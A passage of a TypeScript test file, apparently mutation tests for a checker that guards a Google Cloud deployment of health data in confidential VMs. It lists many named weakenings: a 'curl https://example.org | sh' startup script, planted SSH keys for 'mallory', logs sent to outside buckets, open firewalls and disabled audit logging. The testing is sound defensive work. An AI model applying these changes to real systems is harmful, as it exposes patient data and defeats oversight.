  net('store-lifecycle', set('Bucket phi-store', 'lifecycleRules', [{ action: { type: 'Delete' }, condition: { numNewerVersions: 1 } }])),
  net('store-key-of-elsewhere', set('Bucket phi-store', 'encryption.defaultKmsKeyName', 'projects/mallory/locations/us-central1/keyRings/x/cryptoKeys/y')),
  log('organisation-sink-intercepts', adding('gcp:logging/organizationSink:OrganizationSink', 'all', { orgId: '100000000003', destination: 'storage.googleapis.com/mallory', includeChildren: true, interceptChildren: true })),
  log('linked-dataset', adding('gcp:logging/linkedDataset:LinkedDataset', 'dataset', { linkId: 'x', bucket: 'clinical-decision-prod-vault', location: 'us-central1', parent: 'projects/example-phi-workload' })),
  log('everybody-reads', grant('example-phi-workload', 'roles/logging.privateLogViewer', 'allAuthenticatedUsers')),
];

const VM_WEAKENINGS: readonly Mutator[] = [
  vm('call-as-the-tee', adding('gcp:cloudscheduler/job:Job', 'call', { project: 'example-phi-workload', schedule: '* * * * *', httpTarget: { uri: 'https://cloudkms.googleapis.com/v1/x:decrypt', oauthToken: { serviceAccountEmail: 'clinical-decision-prod-tee@example-phi-workload.iam.gserviceaccount.com' } } })),
  vm('schedule-never-comes', set('Job refresh-a', 'schedule', '0 3 31 2 *')),
  vm('health-of-another-port', set('RegionHealthCheck tee', 'tcpHealthCheck.port', 22)),
  vm('programs-installed', adding('gcp:compute/zoneVmExtensionPolicy:ZoneVmExtensionPolicy', 'agents', { project: 'example-phi-workload', zone: 'us-central1-a' })),
  vm('type-gone', set(TEE, 'confidentialInstanceConfig.confidentialInstanceType', undefined)),
  vm('type-sev', set(TEE, 'confidentialInstanceConfig.confidentialInstanceType', 'SEV')),
  vm('type-none', set(TEE, 'confidentialInstanceConfig', undefined)),
  vm('gateway-type-none', set(GATEWAY, 'confidentialInstanceConfig', undefined)),
  vm('type-not-told', set(TEE, 'confidentialInstanceConfig', '[secret]')),
  vm('debug-image', disk((one) => { one['sourceImage'] = 'projects/confidential-space-images/global/images/family/confidential-space-debug'; })),
  vm('image-of-others', disk((one) => { one['sourceImage'] = 'projects/mallory/global/images/family/confidential-space'; })),
  vm('gateway-image-family', set(GATEWAY, 'bootDisk.initializeParams.image', 'projects/ubuntu-os-cloud/global/images/family/ubuntu-2404-lts-amd64')),
  vm('container-by-tag', metadata('tee-image-reference', 'us-central1-docker.pkg.dev/example-phi-workload/clinical/inference:latest')),
  vm('container-of-another-digest', metadata('tee-image-reference', `us-central1-docker.pkg.dev/example-phi-workload/clinical/inference@${OTHER_DIGEST}`)),
  vm('command', metadata('tee-cmd', '["/bin/sh"]')),
  vm('environment', metadata('tee-env-LOG_LEVEL', 'debug')),
  vm('logs-redirected', metadata('tee-container-log-redirect', 'true')),
  vm('logs-to-serial', metadata('tee-container-log-redirect', 'serial')),
  vm('fake-verifier', metadata('test-fake-verifier', 'true')),
  vm('other-verifier', metadata('ita-region', 'US')),
  vm('capabilities', metadata('tee-added-capabilities', '["CAP_SYS_ADMIN"]')),
  vm('impersonates', metadata('tee-impersonate-service-accounts', 'admin@example-phi-keys.iam.gserviceaccount.com')),
  vm('signed-images', metadata('tee-signed-image-repos', 'docker.io/mallory/x')),
  vm('startup-script', metadata('startup-script', 'curl https://example.org | sh')),
  vm('startup-script-property', set(GATEWAY, 'metadataStartupScript', 'curl https://example.org | sh')),
  vm('ssh-keys', metadata('ssh-keys', 'mallory:ssh-ed25519 AAAA')),
  vm('serial-port', metadata('serial-port-enable', 'TRUE')),
  vm('project-ssh-keys', adding('gcp:compute/projectMetadataItem:ProjectMetadataItem', 'keys', { project: 'example-phi-workload', key: 'ssh-keys', value: 'mallory:ssh-ed25519 AAAA' })),
  vm('project-oslogin-off', set('ProjectMetadataItem guardrails-enable-oslogin', 'value', 'FALSE')),
  vm('block-keys-off', metadata('block-project-ssh-keys', 'FALSE')),
  vm('secure-boot-off', set(TEE, 'shieldedInstanceConfig.enableSecureBoot', false)),
  vm('secure-boot-gone', set(GATEWAY, 'shieldedInstanceConfig', undefined)),
  vm('vtpm-off', set(TEE, 'shieldedInstanceConfig.enableVtpm', false)),
  vm('integrity-off', set(TEE, 'shieldedInstanceConfig.enableIntegrityMonitoring', false)),
  vm('external-address', nic(TEE, (one) => { one['accessConfigs'] = [{}]; })),
  vm('external-ipv6', nic(TEE, (one) => { one['ipv6AccessConfigs'] = [{ networkTier: 'PREMIUM' }]; one['stackType'] = 'IPV4_IPV6'; })),
  vm('forwards', set(GATEWAY, 'canIpForward', true)),
  vm('default-account', set(TEE, 'serviceAccount', { scopes: ['https://www.googleapis.com/auth/cloud-platform'] })),
  vm('compute-account', set(TEE, 'serviceAccount.email', '100000000001-compute@developer.gserviceaccount.com')),
  vm('shared-account', set(GATEWAY, 'serviceAccount.email', TEE_ACCOUNT)),
  vm('account-editor', grant('example-phi-workload', 'roles/editor', `serviceAccount:${TEE_ACCOUNT}`)),
  vm('account-storage-admin', grant('example-phi-workload', 'roles/storage.admin', `serviceAccount:${TEE_ACCOUNT}`)),
  vm('account-key-file', adding('gcp:serviceaccount/key:Key', 'file', { serviceAccountId: TEE_ACCOUNT })),
  vm('account-impersonated', adding('gcp:serviceaccount/iAMMember:IAMMember', 'actor', { serviceAccountId: '${gcp:serviceaccount/account:Account::tee.name}', role: 'roles/iam.serviceAccountTokenCreator', member: MALLORY })),
  vm('account-attached-by-others', adding('gcp:serviceaccount/iAMMember:IAMMember', 'actor', { serviceAccountId: `projects/example-phi-workload/serviceAccounts/${TEE_ACCOUNT}`, role: 'roles/iam.serviceAccountUser', member: MALLORY })),
  vm('project-impersonation', grant('example-phi-workload', 'roles/iam.serviceAccountTokenCreator', MALLORY)),
  vm('project-instance-admin', grant('example-phi-workload', 'roles/compute.instanceAdmin.v1', MALLORY)),
  vm('project-os-admin', grant('example-phi-workload', 'roles/compute.osAdminLogin', MALLORY)),
  vm('project-tunnel', grant('example-phi-workload', 'roles/iap.tunnelResourceAccessor', MALLORY)),
  vm('disk-without-key', disk((one) => { delete one['diskEncryptionKey']; })),
  vm('gateway-disk-without-key', edit(GATEWAY, (values) => { delete object(values['bootDisk'])['kmsKeySelfLink']; })),
  vm('second-disk-without-key', edit(TEE, (values) => void array(values['disks']).push({ diskType: 'pd-balanced', interface: 'NVME', diskSizeGb: 10 }))),
  vm('migrates', set(TEE, 'scheduling.onHostMaintenance', 'MIGRATE')),
  vm('revocation-ignored', set(TEE, 'keyRevocationActionType', 'NONE')),
  vm('machine-without-tdx', set(TEE, 'machineType', 'n2-standard-4')),
  vm('healing-gone', set('RegionInstanceGroupManager tee', 'autoHealingPolicies', undefined)),
  vm('refresh-gone', (artifact) => remove(artifact, (one) => typeOf(one) === 'gcp:cloudscheduler/job:Job')),
  vm('template-of-elsewhere', set('RegionInstanceGroupManager tee', 'versions', [{ name: 'x', instanceTemplate: 'projects/mallory/regions/us-central1/instanceTemplates/x' }])),
  vm('plain-machine-beside', (artifact) => { const copy = structuredClone(inputs(artifact, GATEWAY)); delete copy['confidentialInstanceConfig']; copy['name'] = 'plain'; add(artifact, 'gcp:compute/instance:Instance', 'plain', copy); }),
  vm('gateway-deletion-allowed', set(GATEWAY, 'deletionProtection', false)),
  vm('organisation-policy-confidential', orgPolicy('compute.restrictNonConfidentialComputing')),
  vm('organisation-policy-shielded', orgPolicy('compute.requireShieldedVm')),
  vm('organisation-policy-images', orgPolicy('compute.trustedImageProjects')),
  vm('organisation-policy-external', orgPolicy('compute.vmExternalIpAccess')),
  vm('organisation-policy-not-enforced', set('Policy guardrails-workload-compute.requireOsLogin', 'spec.rules', [{ enforce: 'FALSE' }])),
  vm('organisation-policy-images-widened', edit('Policy guardrails-workload-compute.trustedImageProjects', (values) => { object(values['spec'])['rules'] = [{ allowAll: 'TRUE' }]; })),
  vm('constraint-of-the-type-gone', drop('CustomConstraint guardrails')),
];

const NETWORK_WEAKENINGS: readonly Mutator[] = [
  net('balancer-every-port', both(set('ForwardingRule gateway', 'ports', undefined), set('ForwardingRule gateway', 'allPorts', true))),
  net('balancer-every-region', set('ForwardingRule gateway', 'allowGlobalAccess', true)),
  net('apis-over-a-machine', adding('gcp:compute/route:Route', 'hop', { network: NETWORK, destRange: '199.36.153.4/32', nextHopInstance: 'clinical-decision-prod-gateway' })),
  net('interface-elsewhere', edit(TEE, (values) => { object(array(values['networkInterfaces'])[0])['networkAttachment'] = 'projects/x/regions/us-central1/networkAttachments/y'; })),
  net('folder-binding', both(adding('gcp:storage/managedFolder:ManagedFolder', 'folder', { bucket: '${gcp:storage/bucket:Bucket::phi-store.name}', name: 'x/' }), adding('gcp:storage/managedFolderIamMember:ManagedFolderIamMember', 'reader', { bucket: '${gcp:storage/managedFolder:ManagedFolder::folder.bucket}', managedFolder: 'x/', role: 'roles/storage.objectViewer', member: 'group:analysts@hospital.example' }))),
  net('attested-but-administrator', set('BucketIAMMember phi-store-inference-1', 'role', 'roles/storage.admin')),
  net('ingress-everywhere', open('any', 'INGRESS', { srcIpRanges: ['0.0.0.0/0'] })),
  net('ingress-ssh', open('ssh', 'INGRESS', { srcIpRanges: ['35.235.240.0/20'], layer4Configs: [{ ipProtocol: 'tcp', ports: ['22'] }] })),
  net('ingress-half-the-internet', open('half', 'INGRESS', { srcIpRanges: ['0.0.0.0/1'] })),
  net('ingress-region', open('country', 'INGRESS', { srcRegionCodes: ['US'] })),
  net('egress-everywhere', open('out', 'EGRESS', { destIpRanges: ['0.0.0.0/0'] })),
  net('egress-one-address', open('out', 'EGRESS', { destIpRanges: ['203.0.113.7/32'] })),
  net('egress-by-name', open('out', 'EGRESS', { destFqdns: ['example.org'] })),
  net('egress-private-vip', rule('google-apis', (one) => { object(one['match'])['destIpRanges'] = ['199.36.153.4/30', '199.36.153.8/30']; })),
  net('flow-all-ports', both(rule('gateway-to-tee-in', (one) => { object(one['match'])['layer4Configs'] = [{ ipProtocol: 'tcp' }]; }), rule('gateway-to-tee-out', (one) => { object(one['match'])['layer4Configs'] = [{ ipProtocol: 'tcp' }]; }))),
  net('flow-any-target', rule('gateway-to-tee-in', (one) => { delete one['targetSecureTags']; })),
  net('flow-any-source', rule('tee-to-phi-store-in', (one) => { object(one['match'])['srcIpRanges'] = ['10.20.0.0/16']; delete object(one['match'])['srcSecureTags']; })),
  net('flow-gateway-to-store', both(rule('tee-to-phi-store-out', (one) => { delete one['targetSecureTags']; }), rule('tee-to-phi-store-in', (one) => { object(one['match'])['srcIpRanges'] = ['10.20.0.0/16']; }))),
  net('deny-egress-gone', cut('deny-egress-ipv4')),
  net('deny-ingress-gone', cut('deny-ingress-ipv4')),
  net('deny-egress-off', rule('deny-egress-ipv4', (one) => { one['disabled'] = true; })),
  net('deny-egress-next', rule('deny-egress-ipv4', (one) => { one['action'] = 'goto_next'; })),
  net('deny-egress-narrow', rule('deny-egress-ipv4', (one) => { object(one['match'])['destIpRanges'] = ['10.0.0.0/8']; })),
  net('deny-egress-tcp-only', rule('deny-egress-ipv4', (one) => { object(one['match'])['layer4Configs'] = [{ ipProtocol: 'tcp' }]; })),
  net('policy-detached', drop('NetworkFirewallPolicyAssociation network')),
  net('policy-of-elsewhere', set('NetworkFirewallPolicyAssociation network', 'firewallPolicy', 'permissive')),
  net('order-after-classic', set('Network network', 'networkFirewallPolicyEnforcementOrder', 'AFTER_CLASSIC_FIREWALL')),
  net('order-gone', set('Network network', 'networkFirewallPolicyEnforcementOrder', undefined)),
  net('classic-rule-and-order', both(set('Network network', 'networkFirewallPolicyEnforcementOrder', undefined), adding('gcp:compute/firewall:Firewall', 'classic', { network: NETWORK, sourceRanges: ['10.0.0.0/8'], allows: [{ protocol: 'all' }] }))),
  net('classic-open-rule', adding('gcp:compute/firewall:Firewall', 'classic', { network: NETWORK, sourceRanges: ['0.0.0.0/0'], allows: [{ protocol: 'tcp', ports: ['22'] }] })),
  net('hierarchical-allow', both(adding('gcp:compute/firewallPolicy:FirewallPolicy', 'org', { shortName: 'org', parent: 'organizations/100000000003' }), adding('gcp:compute/firewallPolicyRule:FirewallPolicyRule', 'org', { firewallPolicy: '${gcp:compute/firewallPolicy:FirewallPolicy::org.id}', priority: 1, direction: 'EGRESS', action: 'allow', enableLogging: true, match: { destIpRanges: ['0.0.0.0/0'], layer4Configs: [{ ipProtocol: 'all' }] } }), adding('gcp:compute/firewallPolicyAssociation:FirewallPolicyAssociation', 'org', { firewallPolicy: '${gcp:compute/firewallPolicy:FirewallPolicy::org.id}', attachmentTarget: 'organizations/100000000003', name: 'org' }))),
  net('default-route', adding('gcp:compute/route:Route', 'default', { network: NETWORK, destRange: '0.0.0.0/0', nextHopGateway: 'default-internet-gateway' })),
  net('default-routes-kept', set('Network network', 'deleteDefaultRoutesOnCreate', false)),
  net('route-widened', set('Route network-google-apis', 'destRange', '199.36.0.0/16')),
  net('route-gone', drop('Route network-google-apis')),
  net('nat', both(adding('gcp:compute/router:Router', 'router', { name: 'router', project: 'example-phi-workload', region: 'us-central1', network: NETWORK }), adding('gcp:compute/routerNat:RouterNat', 'nat', { router: 'router', region: 'us-central1', natIpAllocateOption: 'AUTO_ONLY', sourceSubnetworkIpRangesToNat: 'ALL_SUBNETWORKS_ALL_IP_RANGES' }))),
  net('peering', adding('gcp:compute/networkPeering:NetworkPeering', 'peer', { network: NETWORK, peerNetwork: 'projects/mallory/global/networks/x' })),
  net('vpn', adding('gcp:compute/haVpnGateway:HaVpnGateway', 'vpn', { network: NETWORK, region: 'us-central1', project: 'example-phi-workload' })),
  net('interconnect', adding('gcp:compute/interconnectAttachment:InterconnectAttachment', 'link', { router: 'router', region: 'us-central1' })),
  net('service-networking', adding('gcp:servicenetworking/connection:Connection', 'services', { network: NETWORK, service: 'servicenetworking.googleapis.com', reservedPeeringRanges: ['x'] })),
  net('psc-all-apis', adding('gcp:compute/globalForwardingRule:GlobalForwardingRule', 'apis', { name: 'apis', target: 'all-apis', network: NETWORK, ipAddress: '10.99.0.9', loadBalancingScheme: '' })),
  net('auto-subnetworks', set('Network network', 'autoCreateSubnetworks', true)),
  net('dual-stack', edit('Subnetwork network-tee', (values) => { values['stackType'] = 'IPV4_IPV6'; values['ipv6AccessType'] = 'EXTERNAL'; })),
  net('private-access-off', set('Subnetwork network-tee', 'privateIpGoogleAccess', false)),
  net('flow-logs-gone', set('Subnetwork network-tee', 'logConfig', undefined)),
  net('flow-logs-sampled', set('Subnetwork network-phi-store', 'logConfig.flowSampling', 0.1)),
  net('flow-logs-filtered', set('Subnetwork network-tee', 'logConfig.filterExpr', 'false')),
  net('flow-logs-without-names', set('Subnetwork network-tee', 'logConfig.metadata', 'EXCLUDE_ALL_METADATA')),
  net('firewall-silent', rule('deny-egress-ipv4', (one) => { one['enableLogging'] = false; })),
  net('dns-log-off', set('Policy network', 'enableLogging', false)),
  net('dns-other-servers', set('Policy network', 'alternativeNameServerConfig', { targetNameServers: [{ ipv4Address: '8.8.8.8' }] })),
  net('dns-zone-gone', drop('ManagedZone network-googleapis-com')),
  net('dns-zone-public', set('ManagedZone network-pkg-dev', 'visibility', 'public')),
  net('dns-record-elsewhere', set('RecordSet network-googleapis-com-a', 'rrdatas', ['203.0.113.9'])),
  net('dns-record-private-vip', set('RecordSet network-googleapis-com-a', 'rrdatas', ['199.36.153.8'])),
  net('dns-forwarded', set('ManagedZone network-gcr-io', 'forwardingConfig', { targetNameServers: [{ ipv4Address: '203.0.113.53' }] })),
  net('gateway-external', set('ForwardingRule gateway', 'loadBalancingScheme', 'EXTERNAL')),
  net('gateway-proxy', both(adding('gcp:compute/regionTargetHttpsProxy:RegionTargetHttpsProxy', 'proxy', { urlMap: 'x' }), edit('ForwardingRule gateway', (values) => { delete values['backendService']; values['target'] = '${gcp:compute/regionTargetHttpsProxy:RegionTargetHttpsProxy::proxy.id}'; values['loadBalancingScheme'] = 'INTERNAL_MANAGED'; }))),
  net('address-external', set('Address gateway', 'addressType', 'EXTERNAL')),
  net('tee-tagged-as-store', edit(GATEWAY, (values) => { object(values['params'])['resourceManagerTags'] = { '${gcp:tags/tagKey:TagKey::network-segment.id}': '${gcp:tags/tagValue:TagValue::network-tee.id}' }; })),
  net('tee-without-tag', set(TEE, 'resourceManagerTags', undefined)),
  net('tee-in-another-subnetwork', nic(TEE, (one) => { one['subnetwork'] = 'projects/shared/regions/us-central1/subnetworks/shared'; })),
  net('perimeter-gone', drop(PERIMETER)),
  net('perimeter-dry-run', edit(PERIMETER, (values) => { values['spec'] = values['status'] as Json; values['useExplicitDryRunSpec'] = true; delete values['status']; })),
  ...['cloudkms', 'sts', 'storage', 'iamcredentials', 'confidentialcomputing'].map((service) => net(`perimeter-without-${service}`, status((one) => { one['restrictedServices'] = array(one['restrictedServices']).filter((name) => name !== `${service}.googleapis.com`); }))),
  net('perimeter-without-key-project', status((one) => { one['resources'] = ['projects/100000000001']; })),
  net('perimeter-anybody', status((one) => void array(one['ingressPolicies']).push({ ingressFrom: { identityType: 'ANY_IDENTITY', sources: [{ accessLevel: '*' }] }, ingressTo: { resources: ['*'], operations: [{ serviceName: 'sts.googleapis.com', methodSelectors: [{ method: '*' }] }] } }))),
  net('perimeter-egress', status((one) => { one['egressPolicies'] = [{ egressFrom: { identityType: 'ANY_IDENTITY' }, egressTo: { resources: ['*'], operations: [{ serviceName: 'storage.googleapis.com', methodSelectors: [{ method: '*' }] }] } }]; })),
  net('perimeter-people-widened', status((one) => void array(object(object(array(one['ingressPolicies'])[0])['ingressFrom'])['identities']).push(MALLORY))),
  net('perimeter-egress-for-one', status((one) => { one['egressPolicies'] = [{ egressFrom: { identities: [MALLORY] }, egressTo: { resources: ['projects/999999999999'], operations: [{ serviceName: 'storage.googleapis.com', methodSelectors: [{ method: '*' }] }] } }]; })),
  net('perimeter-services-unrestricted', status((one) => { delete one['vpcAccessibleServices']; })),
  net('store-public', set('Bucket phi-store', 'publicAccessPrevention', 'inherited')),
  net('store-access-lists', set('Bucket phi-store', 'uniformBucketLevelAccess', false)),
  net('store-all-users', adding('gcp:storage/bucketIAMMember:BucketIAMMember', 'public', { bucket: '${gcp:storage/bucket:Bucket::phi-store.name}', role: 'roles/storage.objectViewer', member: 'allUsers' })),
  net('store-reader', adding('gcp:storage/bucketIAMMember:BucketIAMMember', 'reader', { bucket: '100000000001-clinical-decision-prod-phi', role: 'roles/storage.objectViewer', member: MALLORY })),
  net('store-admin', adding('gcp:storage/bucketIAMMember:BucketIAMMember', 'admin', { bucket: '100000000001-clinical-decision-prod-phi', role: 'roles/storage.admin', member: MALLORY })),
  net('store-versions-off', set('Bucket phi-store', 'versioning.enabled', false)),
  net('store-without-key', set('Bucket phi-store', 'encryption', undefined)),
  net('store-soft-delete-off', set('Bucket phi-store', 'softDeletePolicy.retentionDurationSeconds', 0)),
  net('store-emptied-on-destroy', set('Bucket phi-store', 'forceDestroy', true)),
  net('store-beside', adding('gcp:storage/bucket:Bucket', 'copy', { name: 'copy', location: 'us-central1', project: 'example-phi-workload' })),
];

const LOG_WEAKENINGS: readonly Mutator[] = [
  log('audit-of-another-project', through('IAMAuditConfig logs-keys', { project: 'elsewhere' }, 'project')),
  log('sink-writes-as-everybody', set('ProjectSink logs-keys-archive', 'uniqueWriterIdentity', false)),
  log('writer-replaced', adding('gcp:storage/bucketIAMPolicy:BucketIAMPolicy', 'whole', { bucket: '100000000001-clinical-decision-prod-logs', policyData: '{"bindings":[]}' })),
  log('writer-never', set('IAMMember logs-keys-bucket', 'condition.expression', 'false')),
  log('alerts-asleep', adding('gcp:monitoring/snooze:Snooze', 'sleep', { project: 'example-phi-keys', interval: { startTime: '2026-11-26T00:00:00Z', endTime: '2036-11-26T00:00:00Z' } })),
  log('alerts-silenced-by-a-person', grant('example-phi-keys', 'roles/monitoring.editor', 'user:mallory@hospital.example')),
  log('copy-to-a-stranger', adding('gcp:logging/projectSink:ProjectSink', 'siem', { name: 'siem', project: 'example-phi-workload', destination: 'pubsub.googleapis.com/projects/example-siem/topics/logs', uniqueWriterIdentity: true })),
  log('vault-unlocked', set('ProjectBucketConfig logs', 'locked', false)),
  log('vault-lock-gone', set('ProjectBucketConfig logs', 'locked', undefined)),
  log('vault-a-year', set('ProjectBucketConfig logs', 'retentionDays', 365)),
  log('vault-default', set('ProjectBucketConfig logs', 'retentionDays', undefined)),
  log('vault-a-day-less', set('ProjectBucketConfig logs', 'retentionDays', 2191)),
  log('vault-without-key', set('ProjectBucketConfig logs', 'cmekSettings', undefined)),
  log('vault-not-protected', protect('ProjectBucketConfig logs', false)),
  log('vault-gone', drop('ProjectBucketConfig logs')),
  log('archive-unlocked', set('Bucket logs-archive', 'retentionPolicy.isLocked', false)),
  log('archive-without-retention', set('Bucket logs-archive', 'retentionPolicy', undefined)),
  log('archive-a-year', set('Bucket logs-archive', 'retentionPolicy.retentionPeriod', '31536000')),
  log('archive-public', set('Bucket logs-archive', 'publicAccessPrevention', 'inherited')),
  log('archive-access-lists', set('Bucket logs-archive', 'uniformBucketLevelAccess', false)),
  log('archive-without-key', set('Bucket logs-archive', 'encryption', undefined)),
  log('archive-lifecycle', set('Bucket logs-archive', 'lifecycleRules', [{ action: { type: 'Delete' }, condition: { age: 30 } }])),
  log('archive-emptied-on-destroy', set('Bucket logs-archive', 'forceDestroy', true)),
  log('archive-deleted-by-the-provider', set('Bucket logs-archive', 'deletionPolicy', 'DELETE')),
  log('archive-readers', adding('gcp:storage/bucketIAMMember:BucketIAMMember', 'all', { bucket: '100000000001-clinical-decision-prod-logs', role: 'roles/storage.objectViewer', member: 'allUsers' })),
  log('archive-administrator', adding('gcp:storage/bucketIAMMember:BucketIAMMember', 'admin', { bucket: '100000000001-clinical-decision-prod-logs', role: 'roles/storage.admin', member: MALLORY })),
  ...['logs-keys-archive', 'logs-keys-bucket', 'logs-workload-archive', 'logs-workload-bucket'].map((sink) => log(`sink-gone-${sink}`, drop(`ProjectSink ${sink}`))),
  log('sink-off', set('ProjectSink logs-keys-bucket', 'disabled', true)),
  log('sink-filtered', set('ProjectSink logs-keys-bucket', 'filter', 'NOT protoPayload.serviceName="cloudkms.googleapis.com"')),
  log('sink-excludes', set('ProjectSink logs-workload-bucket', 'exclusions', [{ name: 'noise', filter: 'resource.type="cloudkms_cryptokey"' }])),
  log('sink-elsewhere', set('ProjectSink logs-keys-archive', 'destination', 'storage.googleapis.com/somewhere-else')),
  log('writer-gone', drop('BucketIAMMember logs-keys-archive')),
  log('writer-of-the-vault-gone', drop('IAMMember logs-keys-bucket')),
  log('project-exclusion', adding('gcp:logging/projectExclusion:ProjectExclusion', 'noise', { project: 'example-phi-keys', filter: 'resource.type="cloudkms_cryptokey"' })),
  log('audit-gone', drop('IAMAuditConfig logs-keys')),
  log('audit-one-service', set('IAMAuditConfig logs-keys', 'service', 'storage.googleapis.com')),
  log('audit-without-reads', edit('IAMAuditConfig logs-keys', (values) => { values['auditLogConfigs'] = [{ logType: 'ADMIN_READ' }, { logType: 'DATA_WRITE' }]; })),
  log('audit-exempt', edit('IAMAuditConfig logs-keys', (values) => { object(array(values['auditLogConfigs'])[1])['exemptedMembers'] = [MALLORY]; })),
  log('audit-exempt-beside', adding('gcp:projects/iAMAuditConfig:IAMAuditConfig', 'kms', { project: 'example-phi-keys', service: 'cloudkms.googleapis.com', auditLogConfigs: [{ logType: 'DATA_READ', exemptedMembers: [MALLORY] }] })),
  log('log-administrator', grant('example-phi-workload', 'roles/logging.admin', MALLORY)),
  log('log-configurator-of-keys', grant('example-phi-keys', 'roles/logging.configWriter', MALLORY)),
  log('lien-gone', drop('Lien logs-keys')),
  log('lien-lifter', grant('example-phi-keys', 'roles/resourcemanager.lienModifier', MALLORY)),
  log('key-of-logs-destroyed-fast', set('CryptoKey cmek-logs', 'destroyScheduledDuration', '86400s')),
  log('key-of-logs-administrator', adding('gcp:kms/cryptoKeyIAMMember:CryptoKeyIAMMember', 'admin', { cryptoKeyId: '${gcp:kms/cryptoKey:CryptoKey::cmek-archive.id}', role: 'roles/cloudkms.admin', member: MALLORY })),
  log('organisation-policy-exemption', orgPolicy('iam.disableAuditLoggingExemption')),
  log('alert-log-pipeline-gone', drop('AlertPolicy alerts-workload-log-pipeline')),
  log('alert-filter-narrowed', edit('AlertPolicy alerts-keys-log-pipeline', (values) => { object(object(array(values['conditions'])[0])['conditionMatchedLog'])['filter'] = 'severity=EMERGENCY'; })),
];

const TAG_WEAKENINGS: readonly Mutator[] = [
  tag('store-without-labels', set('Bucket phi-store', 'labels', undefined)),
  tag('key-without-agreement', edit('CryptoKey phi-key', (values) => { delete object(values['labels'])['baa-reference']; })),
  tag('template-of-another-agreement', edit(TEE, (values) => { object(values['labels'])['baa-reference'] = 'baa-0000'; })),
  tag('store-not-phi', edit('Bucket phi-store', (values) => { object(values['labels'])['phi-classification'] = 'public'; })),
  tag('instance-without-owner', edit(GATEWAY, (values) => { delete object(values['labels'])['phi-owner']; })),
  tag('unlabelled-bucket', adding('gcp:storage/bucket:Bucket', 'new', { name: 'new', project: 'example-phi-workload', location: 'us-central1', uniformBucketLevelAccess: true, publicAccessPrevention: 'enforced', versioning: { enabled: true }, encryption: { defaultKmsKeyName: '${gcp:kms/cryptoKey:CryptoKey::cmek-store.id}' } })),
  tag('service-outside-the-agreement', adding('gcp:firebase/webApp:WebApp', 'app', { project: 'example-phi-workload', displayName: 'app' })),
  tag('binding-of-project-tags-gone', drop('TagBinding key-tags-baa-reference')),
];

const conditionIs = (change: (parts: string[]) => string) => condition((text) => change(CONJUNCTS.map((one) => { if (!text.includes(one.text)) throw new Error(`the shipped condition has no ${one.text}`); return one.text; })));

const HARMLESS: readonly Mutator[] = [
  same.key('condition-reversed', conditionIs((parts) => [...parts].reverse().join(' && '))),
  same.key('condition-parenthesised', condition((text) => `(${text})`)),
  same.key('condition-spaced', condition((text) => text.replaceAll(' && ', '\n  && '))),
  same.key('condition-equal-for-in', swap('assertion.hwmodel in ["GCP_INTEL_TDX"]', 'assertion.hwmodel == "GCP_INTEL_TDX"')),
  same.key('condition-in-for-equal', swap('assertion.swname == "CONFIDENTIAL_SPACE"', 'assertion.swname in ["CONFIDENTIAL_SPACE"]')),
  same.key('condition-turned', swap('assertion.dbgstat == "disabled-since-boot"', '"disabled-since-boot" == assertion.dbgstat')),
  same.key('condition-bare-boolean', swap('assertion.secboot == true', 'assertion.secboot')),
  same.key('condition-single-quotes', condition((text) => text.replaceAll('"', "'"))),
  same.key('condition-digest-equal', swap(`assertion.submods.container.image_digest in ["${DIGEST}"]`, `assertion.submods.container.image_digest == "${DIGEST}"`)),
  same.key('condition-de-morgan', swap('assertion.secboot == true', '!(assertion.secboot != true)')),
  same.key('condition-zone', condition((text) => `${text} && assertion.submods.gce.zone == "us-central1-a"`)),
  same.key('condition-version-floor', condition((text) => `${text} && int(assertion.swversion[0]) >= 260300`)),
  same.key('condition-double', condition((text) => `${text} && ${CONJUNCTS[0]!.text}`)),
  same.key('condition-hardware-order', swap('["GCP_INTEL_TDX"]', '["GCP_INTEL_TDX", "GCP_INTEL_TDX"]')),
  same.key('condition-no-command-claim', swap(CONJUNCTS[9]!.text, '!has(assertion.submods.container.cmd_override)')),
  same.key('issuer-without-slash', set(PROVIDER, 'oidc.issuerUri', 'https://confidentialcomputing.googleapis.com')),
  same.key('condition-macro', swap(`"${TEE_ACCOUNT}" in assertion.google_service_accounts`, `assertion.google_service_accounts.exists(one, one == "${TEE_ACCOUNT}")`)),
  same.key('condition-pattern', swap('assertion.swname == "CONFIDENTIAL_SPACE"', 'assertion.swname.matches("^CONFIDENTIAL_SPACE$")')),
  same.key('condition-attribute', swap(`assertion.submods.container.image_digest in ["${DIGEST}"]`, `attribute["image_digest"] == "${DIGEST}"`)),
  same.key('owner-of-another-project', grant('example-other', 'roles/owner', MALLORY)),
  same.log('default-bucket-longer', adding('gcp:logging/projectBucketConfig:ProjectBucketConfig', 'default', { bucketId: '_Default', project: 'example-phi-keys', location: 'global', retentionDays: 400 })),
  same.key('provider-described', set(PROVIDER, 'description', 'Only attested workloads')),
  same.key('bindings-reordered', policy((bindings) => void bindings.reverse())),
  same.key('binding-without-administrators', policy((bindings) => void bindings.splice(1, 1))),
  same.key('policy-with-version', edit('CryptoKeyIAMPolicy phi-key', (values) => { values['policyData'] = JSON.stringify({ ...(JSON.parse(string(values['policyData'])) as object), version: 3 }); })),
  same.key('deny-more', deny(1, (one) => void one.deniedPermissions.push('cloudkms.googleapis.com/importJobs.create'))),
  same.key('deny-rules-reordered', edit('DenyPolicy phi-key', (values) => void array(values['rules']).reverse())),
  same.key('deny-extra-policy', (artifact) => add(artifact, 'gcp:iam/denyPolicy:DenyPolicy', 'more', { ...structuredClone(inputs(artifact, 'DenyPolicy phi-key')), name: 'more' })),
  same.key('rotation-monthly', set('CryptoKey phi-key', 'rotationPeriod', '2592000s')),
  same.key('destroyed-later', set('CryptoKey phi-key', 'destroyScheduledDuration', '5184000s')),
  same.key('single-tenant-hsm', set('CryptoKey phi-key', 'versionTemplate.protectionLevel', 'HSM_SINGLE_TENANT')),
  same.key('key-label', edit('CryptoKey phi-key', (values) => { object(values['labels'])['cost-centre'] = 'c-17'; })),
  same.key('alert-more-methods', edit('AlertPolicy alerts-workload-log-pipeline', (values) => { values['documentation'] = { content: 'Call the security team.' }; })),
  same.key('viewer-of-keys', grant('example-phi-keys', 'roles/cloudkms.viewer', 'group:auditors@hospital.example')),
  same.vm('bigger-machine', set(TEE, 'machineType', 'c3-standard-8')),
  same.vm('more-machines', set('RegionAutoscaler tee', 'autoscalingPolicy.maxReplicas', 8)),
  same.vm('bigger-disk', set(GATEWAY, 'bootDisk.initializeParams.size', 100)),
  same.vm('exact-image', disk((one) => { one['diskSizeGb'] = 20; })),
  same.vm('restart-policy', metadata('tee-restart-policy', 'OnFailure')),
